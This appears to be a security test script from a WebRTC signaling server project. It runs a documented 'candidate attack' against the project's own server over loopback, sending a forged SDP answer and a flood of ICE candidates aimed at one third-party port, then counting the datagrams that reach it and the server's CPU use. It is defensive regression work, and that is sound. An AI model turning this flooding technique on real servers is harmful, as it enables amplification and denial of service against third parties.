#!/usr/bin/env python3
# The candidate attack (docs/security.md): connect to hato as an anonymous
# peer, answer without candidates and never check, trickle N candidates
# that name one "third party" (127.0.x.y:P, read by a counting socket on
# 0.0.0.0:P of this host), then count for SECS seconds what reaches it and
# the CPU ticks of hato's shard threads (hato-rtc-*).
#
#   python3 tests/attack/candidates.py HATO_PID ws://127.0.0.1:5000/signaling 2000 12
#
# Needs `pip install websockets`. Its traffic stays on loopback.
import asyncio, json, os, socket, sys, time, websockets
pid=int(sys.argv[1]); url=sys.argv[2]; N=int(sys.argv[3]); SECS=float(sys.argv[4])
third=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); third.bind(("0.0.0.0",0)); third.setblocking(False)
port=third.getsockname()[1]
def shard_ticks():
    t=0
    for tid in os.listdir(f"/proc/{pid}/task"):
        try:
            name=open(f"/proc/{pid}/task/{tid}/comm").read().strip()
            if name.startswith("hato-rtc"):
                f=open(f"/proc/{pid}/task/{tid}/stat").read().rsplit(")",1)[1].split()
                t+=int(f[11])+int(f[12])
        except FileNotFoundError: pass
    return t
ANSWER="\r\n".join(["v=0","o=- 1 2 IN IP4 127.0.0.1","s=-","t=0 0","a=group:BUNDLE 0",
 "m=application 9 UDP/DTLS/SCTP webrtc-datachannel","c=IN IP4 0.0.0.0","a=mid:0",
 "a=ice-ufrag:attk","a=ice-pwd:attackerpasswordattackerpw",
 "a=fingerprint:sha-256 "+":".join(["AB"]*32),"a=setup:active","a=sctp-port:5000",
 "a=max-message-size:262144",""])
async def main():
    async with websockets.connect(url, max_size=None) as ws:
        await ws.send(json.dumps({"type":"connect","role":"recvonly","channel_id":"attack"}))
        offer=json.loads(await ws.recv())
        await ws.send(json.dumps({"type":"answer","sdp":ANSWER}))
        t0=shard_ticks(); start=time.time(); n=0; closed=None
        for i in range(N):
            ip=f"127.0.{1+i//250}.{1+i%250}"
            try:
                await ws.send(json.dumps({"type":"candidate","candidate":f"candidate:7 1 udp 2122260223 {ip} {port} typ host"}))
            except Exception as e:
                break
        while time.time()-start < SECS:
            try:
                while True: third.recvfrom(2048); n+=1
            except BlockingIOError: pass
            if closed is None:
                try:
                    m=await asyncio.wait_for(ws.recv(), 0.01)
                except asyncio.TimeoutError: pass
                except websockets.ConnectionClosed as e: closed=(e.rcvd.code, e.rcvd.reason) if e.rcvd else "closed"
            else:
                await asyncio.sleep(0.01)
        print(json.dumps({"candidates_sent":N,"datagrams_to_third_party":n,"seconds":SECS,
          "shard_cpu_ticks":shard_ticks()-t0,"session_end":closed}))
asyncio.run(main())
